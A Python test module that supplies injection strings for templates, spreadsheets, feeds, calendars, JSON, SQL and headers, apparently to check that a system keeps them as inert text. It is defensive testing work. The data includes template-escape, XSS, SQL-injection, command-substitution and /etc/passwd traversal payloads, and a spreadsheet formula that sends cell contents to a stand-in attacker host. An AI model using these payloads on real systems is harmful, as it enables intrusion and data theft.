"""Texts that are harmless on a page and act elsewhere: templates, tables, feeds, calendars, JSON, databases."""

from __future__ import annotations

from hostile.case import Case
from hostile.records import injected

_AS_TEXT = "Es steht überall als Text: Kein Ausgabeformat führt es aus, und jedes liest es wieder so, wie es geschrieben wurde."


def cases() -> list[Case]:
    templates = {
        "ausdruck": "{{ 7 * 7 }}",
        "einstellungen": "{{ config }} {{ self }} {{ portal }}",
        "ausbruch": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "anweisung": "{% for i in range(10) %}x{% endfor %}",
        "einbinden": '{% include "base.html" %}{% extends "x" %}',
        "roh": "{% raw %}{{ x }}{% endraw %}",
        "kommentar": "{# weg #}",
        "unvollstaendig": "{{ {% {#",
        "format": "{0.__class__} %(name)s ${HOME} %s {}",
        "liquid": "{{ site.pages | jsonify }} <%= 7 * 7 %> #{7*7} ${7*7}",
        "ersetzung": "\\1 \\g<0> $1 $& $`",
    }
    formulas = {
        "gleich": "=1+1",
        "befehl": "=cmd|' /C calc'!A0",
        "verweis": '=HYPERLINK("https://boese.example/?x="&A1,"Klick")',
        "plus": "+49 40 und mehr",
        "minus": "-2+3",
        "klammeraffe": "@SUM(1+1)*cmd|' /C calc'!A0",
        "abstand": " =1+1",
        "breit": "＝1+1",
        "anfuehrung": '"=1+1"',
        "semikolon": 'a;"=1+1";b',
        "komma": "a,=1+1,b",
        "strich": "a | b",
        "zeile": "a\n=1+1",
        "import": '=IMPORTXML("https://boese.example/","//a")',
        "hochkomma": "'=1+1",
    }
    feeds = {
        "ende-cdata": "]]> ]]&gt; <![CDATA[",
        "entitaet": "&xxe; &#0; &#xFFFE; &amp; & &unbekannt;",
        "elemente": "</title></entry></feed><entry>",
        "kopf": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>',
        "attribut": "\" ' href='javascript:alert(1)'",
        "namensraum": "<a:b xmlns:a='x'>",
        "kommentar": "<!-- -- -->",
    }
    calendars = {
        "zeilenende": "Sitzung\nEND:VEVENT\nBEGIN:VEVENT\nUID:gefaelscht",
        "rueckstrich": "a\\nb\\,c\\;d\\\\e",
        "trenner": "a;b,c:d;VALUE=DATE:2024",
        "lang": "Ä" * 400,
        "emoji-lang": "🏛" * 200,
        "anhang": "x\nATTACH:https://boese.example/\nATTENDEE:mailto:a",
        "parameter": '";X-BOESE="1":x',
    }
    data = {
        "skriptende": "</script><script>alert(1)</script>",
        "kommentar-im-skript": "<!--<script>",
        "anfuehrung": '"}],"x":"</script>',
        "rueckstrich": '\\"\\u003c\\',
        "proto": "__proto__",
        "vorlage-js": "${alert(1)} `+alert(1)+`",
        "json": '{"@type":"Person","@id":"javascript:alert(1)"}',
        "null": "null",
        "zahl": "1e999",
        "turtle": '""" . <javascript:x> a <y> . """',
        "iri": 'https://a.example/<>"{}|^`',
        "suche": '" OR *:* AND (a~ ^9) [x TO y]',
    }
    sql = {
        "bobby": "Robert'); DROP TABLE beschluesse;--",
        "oder": "' OR '1'='1",
        "vereinigung": "x' UNION SELECT sql FROM sqlite_master --",
        "anfuehrung": 'a"b`c[d]',
        "kommentar": "/* x */ -- y",
        "prozent": "100%_\\",
        "anhang": "'; ATTACH DATABASE '/tmp/x' AS y;--",
        "frage": "? :name @x $y",
    }
    headers = {
        "kopfzeile": "x\nSet-Cookie: a=b",
        "pfad": "../../etc/passwd",
        "befehl": "$(id) `id` ; id | id && id",
        "werkstatt": "::set-output name=x::y ::error::z",
        "terminal": "\\x1b[31m \\033[0m",
        "latex": "\\input{/etc/passwd} \\write18{id}",
        "bibtex": "},url={https://boese.example/},x={",
        "ris": "x\nER  - \nTY  - JOUR",
        "ldap": "*)(uid=*))(|(uid=*",
        "regexp": "(a+)+$ (.*)* [[:alpha:]]".replace("[[", "[ ["),
    }
    return [
        *injected("vorlagen", templates, _AS_TEXT),
        *injected(
            "tabellen",
            formulas,
            "In den Tabellen steht ein Hochkomma davor, wenn der Text mit = + - @ beginnt; sonst ist es Text wie jeder andere.",
        ),
        *injected("feeds", feeds, _AS_TEXT),
        *injected("kalender", calendars, _AS_TEXT),
        *injected("json", data, _AS_TEXT),
        *injected("sql", sql, _AS_TEXT),
        *injected("anderswo", headers, _AS_TEXT),
    ]
